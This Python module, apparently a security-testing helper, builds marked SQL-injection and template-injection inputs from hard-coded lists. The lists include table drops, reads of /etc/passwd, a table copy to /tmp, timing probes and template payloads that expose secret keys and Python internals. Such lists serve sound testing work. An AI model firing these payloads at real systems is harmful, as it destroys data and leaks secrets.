"""What people with bad intentions type: SQL, templates, markup; each with a mark to know it by."""

from __future__ import annotations

from itertools import islice, product

MARK = "zq7x"
_SQL = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE customers; --", "') OR ('1'='1",
    "\" OR \"\"=\"", "\"; DROP TABLE x;--",
    "' UNION SELECT * FROM about --", "') UNION ALL SELECT NULL, NULL --", "'; ATTACH '/etc/passwd' AS p; --",
    "'; COPY customers TO '/tmp/{mark}.csv'; --", "' || (SELECT max(mobile) FROM customers) || '", "\\' OR 1=1 --",
    "1; SELECT pg_sleep(9)", "1 OR 1=1", "customer_id; DROP TABLE customers", "name) FROM customers --",
    "(SELECT mobile FROM customers LIMIT 1)", "mobile", "CASE WHEN 1=1 THEN name ELSE mobile END", "name, mobile",
    "%' OR name LIKE '%", "%%%%", "_", "[a-z]*", "*", "'/**/OR/**/1=1#", "';PRAGMA database_list;--", "ʼ OR 1=1--",
    "＇ OR 1=1--", "$$ OR 1=1 $$", "E'\\x27 OR 1=1'", "chr(39)||'1'", "?", "?1", "$1", ":name", "{{0}}", "%(name)s",
    "%s", "\x1a' OR 1=1", "'\n OR 1=1\n--", "'\tOR\t1=1", "`name`", "[name]", "name::json", "rowid", "current_user",
    "read_text('/etc/passwd')", "getenv('HOME')", "NULL", "true", "' IS NOT NULL OR '", "0x27204f5220313d31",
    "--", "/*",
)  # fmt: skip
_PUT = ("{0}{1}", "{1}{0}", "{0}'{1}", '{1}")--{0}', "{0};{1};", "{1}{0}{1}")
_TEMPLATES = (
    "{{7*191}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{7*191}", "{% debug %}", "{% load fenji %}", "{{ request }}",
    "{{ settings.SECRET_KEY }}", "{{ ''.__class__.__mro__ }}", "{0.__class__.__init__.__globals__}", "{0[password]}",
    "{customer.__class__}", "%(password)s", "%s%s%n", "$password", "${password}", "{{'a'*7191}}", "{# x #}",
    "[[7*191]]",
    "#set($x=7*191)$x", "@(7*191)", "~{7*191}", "<#assign x=7*191>${x}", "{{=7*191}}", "{php}echo 7*191;{/php}",
    "*{7*191}", "{{ ().__class__ }}", "{{ config }}", "{% include '/etc/passwd' %}", "{% extends x %}",
    "#eval(7*191)", "$`7*191`", "`7*191`", "\\begin{document}", "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")",
    "=7*191", "${{7*191}}", "{{constructor.constructor('return 7*191')()}}",
)  # fmt: skip
PRODUCT = str(7 * 191)


def sql_words(many: int) -> list[str]:
    """So many payloads for databases; each carries the mark."""
    made = (put.format(MARK, one.replace("{mark}", MARK)) for put, one in product(_PUT, _SQL))
    return list(islice(made, many))


def template_words(many: int) -> list[str]:
    """So many payloads for languages of templates, alone and inside other words."""
    made = (put.format(one, MARK) for put, one in product(("{1}{0}", "{0}{1}", "{1} {0} {1}"), _TEMPLATES))
    return list(islice(made, many))
